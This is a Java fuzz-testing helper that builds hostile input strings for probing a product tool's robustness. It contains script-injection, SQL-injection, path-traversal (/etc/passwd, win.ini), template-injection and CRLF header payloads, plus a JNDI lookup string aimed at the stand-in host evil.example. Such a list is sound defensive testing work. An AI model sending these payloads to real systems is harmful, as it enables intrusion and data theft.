package nl.buro3.productentool.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.random.RandomGenerator;

/** Values that programs stumble over, from a given randomness. */
final class Nasty {

    /** What would run if it came back as it was sent. */
    static final List<String> SCRIPTS = List.of(
            "<script>vijand(1)</script>",
            "\"><img src=x onerror=vijand(2)>",
            "'><svg onload=vijand(3)>",
            "</script><script>vijand(4)</script>",
            "</title><script>vijand(5)</script>",
            "javascript:vijand(6)");

    /** Numbers at and past every edge. */
    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "-0",
            "1",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "9999999999999999999999",
            "1e999",
            "NaN",
            "Infinity",
            "0x10",
            "1.5",
            "1,5",
            "٣",
            "²",
            "00000000000000000000001",
            "+1",
            " 1",
            "1 ",
            "1_000");

    private static final List<String> WORDS = List.of(
            "",
            " ",
            "'",
            "''",
            "\"",
            "`",
            "' or '1'='1",
            "1; drop table product--",
            "') union select null--",
            "%",
            "%%",
            "_",
            "\\",
            "\\\\",
            "..",
            "../../../../etc/passwd",
            "..\\..\\win.ini",
            "file:///etc/passwd",
            "http://evil.example/",
            "//evil.example",
            "https:evil.example",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "\r\nX-Vijand: 1",
            "\n",
            "\r",
            "\t",
            "\0",
            "\u0001",
            "\u007f",
            "\u0085",
            "\u2028",
            "\u200b",
            "\u202e",
            "\ufeff",
            "\uffff",
            "\ud83d\ude00",
            "e\u0301",
            "İ",
            "ß",
            "a\u0300".repeat(200),
            "a".repeat(5000),
            "ab ".repeat(1500),
            "\"".repeat(300),
            "(".repeat(2000),
            "*".repeat(500),
            "a*b?c~2^4",
            "+-&&||!(){}[]^\"~*?:\\/",
            "AND OR NOT",
            "field:[a TO z]",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "[[]]");

    private Nasty() {}

    /** Any of them, as it is. */
    static String text(RandomGenerator random) {
        return switch (random.nextInt(6)) {
            case 0 -> pick(NUMBERS, random);
            case 1 -> pick(SCRIPTS, random);
            case 2 -> noise(random, 1 + random.nextInt(40));
            case 3 -> pick(WORDS, random) + pick(WORDS, random);
            default -> pick(WORDS, random);
        };
    }

    /** One of them in an address, in one of the ways to write it; some of the ways are wrong. */
    static String encoded(RandomGenerator random) {
        String text = text(random);
        String right = URLEncoder.encode(text, StandardCharsets.UTF_8);
        return switch (random.nextInt(8)) {
            case 0 -> right.replace("%", "%25");
            case 1 -> broken(random);
            case 2 -> right.toLowerCase(Locale.ROOT);
            case 3 -> right + broken(random);
            case 4 -> text.replaceAll("[\\s\\x00-\\x20#?]", "");
            case 5 -> URLEncoder.encode(text, StandardCharsets.UTF_16BE);
            default -> right.replace("+", "%20");
        };
    }

    /** What is no encoding of anything. */
    static String broken(RandomGenerator random) {
        return pick(
                List.of(
                        "%",
                        "%%",
                        "%2",
                        "%zz",
                        "%u0041",
                        "%c0%af",
                        "%c0%80",
                        "%ff%fe",
                        "%ed%a0%80",
                        "%f8%88%80%80",
                        "%e2%28%a1",
                        "%00",
                        "%0d%0a",
                        "%2f",
                        "%5c",
                        "%2e%2e%2f",
                        "%252e",
                        ";x=1",
                        "%3b",
                        "%3f",
                        "%23"),
                random);
    }

    static String number(RandomGenerator random) {
        return pick(NUMBERS, random);
    }

    static <T> T pick(List<T> all, RandomGenerator random) {
        return all.get(random.nextInt(all.size()));
    }

    /** Signs of all planes, control characters and lone halves of pairs among them. */
    private static String noise(RandomGenerator random, int length) {
        StringBuilder noise = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            noise.append((char) (random.nextInt(4) == 0 ? random.nextInt(0x10000) : random.nextInt(128)));
        }
        return noise.toString();
    }
}
